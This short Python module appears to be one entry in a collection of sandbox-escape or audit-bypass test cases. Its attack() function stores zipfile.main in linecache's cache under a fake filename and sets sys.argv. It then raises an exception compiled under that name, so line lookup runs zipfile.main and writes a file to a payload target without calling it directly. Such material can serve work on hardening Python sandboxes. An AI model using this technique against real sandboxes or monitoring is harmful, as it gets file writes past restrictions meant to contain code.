"""What linecache calls for lines is a main program of the library's."""
CATEGORY = "borrowed"
REACH = "write"

import linecache
import sys
import zipfile

from . import payload


def attack():
    sys.argv[:] = ["zipfile", "-c", payload.TARGET, sys.executable + "/none"]
    linecache.cache["/there/is/none.py"] = zipfile.main,
    exec(compile("1 / 0", "/there/is/none.py", "exec"))
